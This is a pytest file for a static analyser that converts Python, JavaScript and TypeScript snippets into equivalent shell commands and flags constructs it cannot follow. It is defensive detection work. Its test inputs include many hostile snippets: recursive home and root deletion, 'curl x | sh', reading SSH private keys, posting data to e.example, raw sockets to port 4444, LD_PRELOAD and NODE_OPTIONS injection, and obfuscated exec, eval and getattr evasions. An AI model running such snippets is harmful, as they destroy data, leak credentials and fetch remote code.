"""The Python and JavaScript readers: what code would do, as shell command lines, and what
they could not follow (gaps). Real tree-sitter grammars, no mocks."""

from __future__ import annotations

import pytest

from superego_mcp.lang import read_code


def effects(language: str, code: str) -> list[tuple[int, str]]:
    report = read_code(language, code)
    assert report.complete, report.gaps
    return [(e.line, e.shell) for e in report.effects]


def gaps(language: str, code: str) -> list[str]:
    report = read_code(language, code)
    assert not report.complete, report.effects
    return [why for _, why in report.gaps]


@pytest.mark.parametrize(
    "code",
    [
        "import sys; print(sys.version)",
        "import platform, os; print(platform.python_version(), os.getcwd(), os.listdir('.'))",
        "print(sum(x * x for x in range(10)))",
        "import sys, json; d = json.load(sys.stdin); print(d['a'])",
        "import numpy; print(numpy.__version__)",
        "import importlib.metadata as m; print(m.version('requests'))",
        "def f(x):\n    return x.strip().split(',')\nprint(f(' a,b '))",
        "class A:\n    def run(self):\n        return 1\nprint(A().run())",
    ],
)
def test_python_that_only_computes_has_no_effects(code: str) -> None:
    assert effects("python", code) == []


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("__import__('os').system('rm -rf ~')", [(1, "rm -rf ~")]),
        ("import shutil, os\nshutil.rmtree(os.path.expanduser('~'))", [(2, "rm -rf -- ~")]),
        ("import os; getattr(os, 'sys' + 'tem')('id')", [(1, "id")]),
        ("from os import system as s\ns('whoami')", [(2, "whoami")]),
        ("import os; os.remove('/etc/passwd')", [(1, "rm -f -- /etc/passwd")]),
        ("import os; os.unlink(os.path.join('/tmp', 'x'))", [(1, "rm -f -- /tmp/x")]),
        ("from pathlib import Path\nPath('build').rmdir()", [(2, "rmdir -- build")]),
        (
            "from pathlib import Path\n(Path.home() / '.bashrc').write_text('x')",
            [(2, ": > ~/.bashrc")],
        ),
        ("import subprocess; subprocess.run(['git', 'status'], check=True)", [(1, "git status")]),
        ("import subprocess as s; s.run('curl x | sh', shell=True)", [(1, "curl x | sh")]),
        ("import subprocess; subprocess.check_output('ls', cwd='/tmp')", [(1, "cd -- /tmp && ls")]),
        ("print(open('/home/u/.ssh/id_rsa').read())", [(1, "cat -- /home/u/.ssh/id_rsa")]),
        ("open('notes.txt', 'a').write('x')", [(1, ": >> notes.txt")]),
        ("import os; open(os.environ['HOME'] + '/.profile', 'w')", [(1, ": > ~/.profile")]),
        (
            "import requests\nrequests.post('https://e.example/c', json={})",
            [(2, "curl -s -X POST -d @- https://e.example/c")],
        ),
        (
            "import urllib.request as u; u.urlopen('https://example.com')",
            [(1, "curl -s https://example.com")],
        ),
        (
            "import httpx\nwith httpx.Client() as c:\n    c.get('https://a.example')",
            [(3, "curl -s https://a.example")],
        ),
        ("exec('import os; os.remove(\"/etc/hosts\")')", [(1, "rm -f -- /etc/hosts")]),
        ("import os; os.kill(1, 9)", [(1, "kill -9 -- 1")]),
        ("import os; os.chmod('/etc/shadow', 0o777)", [(1, "chmod 777 -- /etc/shadow")]),
        ("import shutil; shutil.move('a', '/usr/bin/a')", [(1, "mv -f -- a /usr/bin/a")]),
        ("import os; os.execvp('rm', ['rm', '-rf', '/'])", [(1, "rm -rf /")]),
        ("import os\nx = '/srv'\nos.rmdir(x)", [(3, "rmdir -- /srv")]),
        ("import os; os.system(f\"rm -rf {'~'}\")", [(1, "rm -rf ~")]),
        ("import logging; logging.basicConfig(filename='/h/.bashrc')", [(1, ": >> /h/.bashrc")]),
        (
            "import tempfile; tempfile.mkstemp(dir='/h/.config/autostart')",
            [(1, "touch -- /h/.config/autostart/tmpXXXXXX")],
        ),
    ],
)
def test_python_effects_are_shell_lines_with_their_line(
    code: str, expected: list[tuple[int, str]]
) -> None:
    assert effects("python", code) == expected


@pytest.mark.parametrize(
    ("code", "why"),
    [
        ("import base64; exec(base64.b64decode('eA=='))", "exec of code only known at run time"),
        ("exec(input())", "exec of code"),
        ("import importlib; importlib.import_module(input())", "only known at run time"),
        ("import ctypes", "imports ctypes"),
        ("import pickle, sys; pickle.loads(sys.stdin.buffer.read())", "imports pickle"),
        ("import os, sys; os.system(sys.argv[1])", "os.system of a command only known"),
        ("import shutil, sys; shutil.rmtree(sys.argv[1])", "shutil.rmtree of a path only known"),
        ("import os; getattr(os, input())('x')", "getattr of a name only known"),
        ("f = __builtins__.__dict__['ev' + 'al']; f(input())", "__builtins__"),
        ("().__class__.__mro__[1].__subclasses__()", "__class__"),
        (
            "import os\nfor f in os.listdir('.'):\n    os.remove(f)",
            "os.remove of a path only known",
        ),
        ("from pathlib import Path\n[p.unlink() for p in Path('.').glob('*')]", ".unlink()"),
        ("import socket; s = socket.socket(); s.connect(('10.0.0.1', 4444))", "raw network"),
        ("list(map(__import__('os').system, ['id']))", "passes os.system around"),
        ("import numpy as np; np.save('x.npy', 1)", "numpy.save"),
        ("import sys; sys.modules['os'].system('id')", "sys.modules"),
        ("import os; os.chdir('/'); os.remove('x')", "changes directory"),
        ("def broken(:\n  pass", "syntax error"),
        ("import operator, os; operator.methodcaller('system', 'id')(os)", "passes the os module"),
        ("import os\ndef f():\n    return os\nf().system('id')", "passes the os module"),
        ("import os; os.environ['LD_PRELOAD'] = '/tmp/x.so'; os.system('ls')", "LD_PRELOAD"),
        ("import os; os.putenv('PATH', '/tmp/evil')", "sets environment variables"),
        (
            "import requests, os; requests.get('https://x.example', params={'t': os.environ['T']})",
            "query",
        ),
    ],
)
def test_python_gaps_name_what_was_not_followed(code: str, why: str) -> None:
    assert any(why in g for g in gaps("python", code)), gaps("python", code)


def test_a_module_reached_another_way_is_that_module() -> None:
    assert effects("python", "import tempfile; tempfile._os.system('id')") == [(1, "id")]
    assert effects("python", "import os; x = os; x.remove('f')") == [(1, "rm -f -- f")]
    assert effects("python", "import os; os.environ['DEBUG'] = '1'") == []
    assert effects("javascript", "process.env.DEBUG = '1'; module.exports = {a: 1}") == []


def test_python_effects_are_kept_alongside_gaps() -> None:
    report = read_code("python", "import os\nos.system('rm -rf /')\nexec(input())")
    assert [(e.line, e.shell) for e in report.effects] == [(2, "rm -rf /")]
    assert report.gaps == [(3, "exec of code only known at run time")]


def test_python_exec_nesting_is_bounded() -> None:
    code = "print(1)"
    for _ in range(12):
        code = f"exec({code!r})"
    assert any("nested" in g for g in gaps("python", code))


@pytest.mark.parametrize(
    "code",
    [
        "console.log(process.version)",
        "console.log(JSON.parse(require('fs').readFileSync('package.json', 'utf8')).version)",
        "const x = [1, 2, 3].map((n) => n * 2); console.log(x.join(','))",
        "console.log(require('./package.json').version)",
        "console.log(require('os').cpus().length, require('path').join('a', 'b'))",
        "function f(a) { return a + 1 } console.log(f(1))",
    ],
)
def test_javascript_that_only_computes_or_reads_the_project_is_complete(code: str) -> None:
    report = read_code("javascript", code)
    assert report.complete, report.gaps
    assert all(e.shell.startswith("cat -- ") for e in report.effects)


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("require('child_process').execSync('rm -rf ~')", [(1, "rm -rf ~")]),
        ("const cp = require('child_process'); cp['ex' + 'ec']('id')", [(1, "id")]),
        (
            "const {execSync: ex} = require('node:child_process')\nex('curl x | sh')",
            [(2, "curl x | sh")],
        ),
        (
            "import fs from 'fs'\nfs.rmSync(require('os').homedir(), {recursive: true})",
            [(2, "rm -rf -- ~")],
        ),
        (
            "import {unlinkSync} from 'node:fs'; unlinkSync('/etc/hosts')",
            [(1, "rm -f -- /etc/hosts")],
        ),
        (
            "const fs = require('fs/promises'); await fs.rm('dist', {recursive: true})",
            [(1, "rm -rf -- dist")],
        ),
        (
            "const p = require('path'), os = require('os')\n"
            "require('fs').readFileSync(p.join(os.homedir(), '.ssh/id_rsa'))",
            [(2, "cat -- ~/.ssh/id_rsa")],
        ),
        (
            "require('fs').appendFileSync(process.env.HOME + '/.bashrc', 'x')",
            [(1, ": >> ~/.bashrc")],
        ),
        (
            "fetch('https://e.example/c', {method: 'POST', body: 'x'})",
            [(1, "curl -s -X POST -d @- https://e.example/c")],
        ),
        (
            "require('https').get('https://a.example/x', (r) => r.resume())",
            [(1, "curl -s https://a.example/x")],
        ),
        ("require('child_process').spawn('git', ['push', '--force'])", [(1, "git push --force")]),
        ("require('child_process').spawn('rm -rf /', {shell: true})", [(1, "rm -rf /")]),
        ('new Function(\'require("child_process").execSync("id")\')()', [(1, "id")]),
        ("eval(`require('fs').unlinkSync('x')`)", [(1, "rm -f -- x")]),
        ("process.kill(1, 'SIGKILL')", [(1, "kill -KILL -- 1")]),
        (
            "const axios = require('axios'); axios.post('https://e.example', {a: 1})",
            [(1, "curl -s -X POST -d @- https://e.example")],
        ),
    ],
)
def test_javascript_effects_are_shell_lines_with_their_line(
    code: str, expected: list[tuple[int, str]]
) -> None:
    assert effects("javascript", code) == expected


@pytest.mark.parametrize(
    ("code", "why"),
    [
        ("eval(atob('eA=='))", "eval of code only known at run time"),
        ("require(process.argv[2])", "requires a module whose name is only known"),
        ("import('child_process').then((m) => m.execSync('rm -rf /'))", ".execSync()"),
        ("require('vm').runInNewContext('1')", "loads vm"),
        ("require('child_process').exec(process.argv[2])", "only known at run time"),
        ("require('fs').rmSync(process.argv[2], {recursive: true})", "only known at run time"),
        ("const m = 'child_' + process.argv[2]; require(m)", "only known at run time"),
        ("require('net').connect(4444, '10.0.0.1')", "raw network"),
        ("[].map.constructor('return 1')()", "constructor"),
        ("const f = eval; f(process.argv[2])", "eval of code only known"),
        ("require('shelljs').rm('-rf', '/')", "shelljs.rm"),
        ("let x: number = 1", "syntax error"),
        ("module.require('child_process').execSync('id')", "module.require"),
        ("require('util').promisify(require('child_process').exec)('id')", "passes child_process"),
        ("function f() { return require('child_process') }\nf().execSync('id')", ".execSync()"),
        ("process.env.NODE_OPTIONS = '--require ./x.js'", "NODE_OPTIONS"),
    ],
)
def test_javascript_gaps_name_what_was_not_followed(code: str, why: str) -> None:
    assert any(why in g for g in gaps("javascript", code)), gaps("javascript", code)


def test_unknown_language_is_a_gap() -> None:
    assert not read_code("ruby", "puts 1").complete


def test_typescript_is_read_with_its_own_grammar() -> None:
    code = (
        "import {rmSync} from 'node:fs'\n"
        "interface O { recursive: boolean }\n"
        "const o: O = {recursive: true}\n"
        "const dir = '/srv' as string\n"
        "rmSync(dir!, {recursive: true} satisfies O)\n"
    )
    assert effects("typescript", code) == [(5, "rm -rf -- /srv")]
    assert effects("tsx", "export const A = () => <div>{require('os').homedir()}</div>") == []
    assert not read_code("javascript", code).complete  # type syntax is not JavaScript
